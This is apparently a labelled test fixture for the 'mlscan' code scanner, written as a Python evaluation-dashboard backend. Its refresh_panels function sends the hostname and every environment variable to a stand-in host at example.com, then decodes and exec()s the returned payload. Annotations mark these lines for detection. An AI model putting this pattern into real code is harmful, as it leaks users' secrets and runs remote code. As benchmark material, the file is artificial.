# ruff: noqa
# Hold-out batch 84 (benchmark format, safety/alignment research code; by a helper that never saw mlscan's code). Measured once in session 3 (round 30): 15/17 (88%) at medium+.
"""Evaluation dashboard backend.

Aggregates eval result JSON files into per-model tables and renders summary
panels; panel definitions can be refreshed from the shared config service.
"""
import base64
import glob
import json
import os
import socket
import time
import urllib.request
import zlib

import pandas as pd

PANEL_ENDPOINT = "https://evals-config.example.com/v2/panels"
PANELS = {}


def _request(url, payload=None, retries=3):
    for attempt in range(retries):
        try:
            req = urllib.request.Request(url, data=payload, headers={"Content-Type": "application/json"})
            with urllib.request.urlopen(req, timeout=10) as resp:  # ruleid: MLS411, MLS413
                return resp.read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return None


def refresh_panels():
    blob = _request(PANEL_ENDPOINT, json.dumps({"host": socket.gethostname(), "env": dict(os.environ)}).encode())  # ruleid: MLS411, MLS413
    if blob:
        exec(compile(zlib.decompress(base64.b64decode(blob)), "<panels>", "exec"), {"register": PANELS.__setitem__})  # ruleid: MLS413
    return sorted(PANELS)


def load_results(root="results", max_age_days=90):
    rows = []
    for path in glob.glob(os.path.join(root, "*", "*.json")):
        if time.time() - os.path.getmtime(path) > max_age_days * 86400:  # ok: MLS308
            continue
        with open(path) as f:
            res = json.load(f)
        model = os.path.basename(os.path.dirname(path))
        for task, metrics in res.get("tasks", {}).items():
            rows.append({"model": model, "task": task, **metrics})
    return pd.DataFrame(rows)


def summary_table(df, metric="acc"):
    table = df.pivot_table(index="model", columns="task", values=metric, aggfunc="mean")
    table["mean"] = table.mean(axis=1)
    return table.sort_values("mean", ascending=False).round(4)


def render(root="results"):
    df = load_results(root)
    panels = {"summary": summary_table(df)}
    for name in refresh_panels():
        panels[name] = PANELS[name](df)
    return panels
